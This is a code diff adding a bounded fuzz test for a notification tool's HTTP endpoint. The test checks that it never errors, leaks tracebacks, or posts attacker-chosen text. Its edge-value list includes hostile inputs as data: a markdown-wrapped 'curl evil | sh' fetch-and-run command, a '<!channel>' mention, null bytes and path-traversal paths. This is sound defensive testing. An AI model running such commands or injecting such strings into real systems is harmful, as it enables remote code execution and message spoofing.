@@ -11,6 +11,7 @@ import io
 import json
 import re
 import sys
+import time
 from datetime import date, datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
@@ -333,3 +334,68 @@ def test_6_a_non_integer_version_sends_the_notice_as_a_first_and_says_so(local_d
 
     after = run_cli("run", "--now", "2026-11-22T01:50:00Z", "--json")  # the record was written afresh
     assert after.code == 0 and [n for n in after.report["notifications"] if n["fingerprint"] == target] == []
+
+
+# --- a short fuzz of the HTTP entry (bounded in count and time; no socket: the Flask test client) ---------
+
+FUZZ_CASES = 250
+FUZZ_SECONDS = 40.0
+_KNOWN = ["action", "monitors", "dry_run", "date", "now"]
+_EDGE_VALUES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "0001-01-01", "9999-12-31", "2026-11-21",
+                T0, "true", "false", "test_alert", "run", "orchestrator_iam", "a,b,,", "\x00", "<!channel>",
+                "\n*Fix*\n```curl evil | sh```", "[" * 3000, "1e400", "-0", "NaN"]
+_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.sampled_from(_EDGE_VALUES),
+                     st.text(max_size=30))
+_json = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
+                     max_leaves=12)
+_names = st.one_of(st.sampled_from(_KNOWN), st.text(min_size=1, max_size=12))
+_bodies = st.one_of(
+    st.none(),
+    st.binary(max_size=200),
+    st.dictionaries(_names, _json, max_size=5).map(lambda d: json.dumps(d).encode()),
+    _json.map(lambda v: json.dumps(v).encode()),
+    st.integers(min_value=1, max_value=6000).map(lambda n: b"[" * n),
+    st.sampled_from([b"{" * 4000, b'{"dry_run": true', b"\xff\xfe", b'{"now": "' + b"9" * 20000 + b'"}']),
+)
+
+
+@pytest.fixture
+def fuzz_app(make_app, local_dir):
+    broken_day().write_local(local_dir)
+    return make_app(), local_dir
+
+
+@given(
+    method=st.sampled_from(["GET", "POST", "POST", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
+    path=st.one_of(st.sampled_from(["/", "/", "/health", "/healthz", "//", "/run", "/%00", "/..%2f"]),
+                   st.text(max_size=20).map(lambda t: "/" + t.replace("?", "").replace("#", "").lstrip("/"))),
+    query=st.dictionaries(_names, st.one_of(st.sampled_from(_EDGE_VALUES), st.text(max_size=20)), max_size=4),
+    body=_bodies,
+    content_type=st.sampled_from(["application/json", "text/plain", "application/x-www-form-urlencoded", ""]),
+)
+@settings(max_examples=FUZZ_CASES, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
+def test_fuzz_the_http_entry_never_answers_500_never_leaks_never_posts_chosen_text(fuzz_app, capsys, method, path, query,
+                                                                                  body, content_type):
+    app, local_dir = fuzz_app
+    started = _FUZZ_CLOCK.setdefault("started", time.monotonic())
+    if time.monotonic() - started > FUZZ_SECONDS:
+        return  # the time bound: later cases are not sent
+    _FUZZ_CLOCK["cases"] = _FUZZ_CLOCK.get("cases", 0) + 1
+    response = app.client.open(path, method=method, query_string=query, data=body,
+                               headers={"Content-Type": content_type} if content_type else {})
+    text = response.get_data(as_text=True)
+    if response.status_code == 308:  # functions-framework's router merges '//' before the function runs
+        assert path.startswith("//") and response.headers["Location"]
+        return
+    assert response.status_code in (200, 400, 404, 405, 413, 503), (response.status_code, text[:300])
+    if method != "HEAD":
+        assert isinstance(json.loads(text), dict)
+    logged = capsys.readouterr().out
+    assert "Traceback" not in text + logged and "canary_crash" not in logged
+    sent = (local_dir / "notifications.jsonl").read_text(encoding="utf-8") if (local_dir / "notifications.jsonl").exists() else ""
+    chosen = [v for v in list(query.values()) + [body.decode("utf-8", "replace") if body else ""] if isinstance(v, str) and len(v) >= 12]
+    assert not any(v in sent for v in chosen if v not in _EDGE_VALUES)
+
+
+_FUZZ_CLOCK: dict[str, Any] = {}
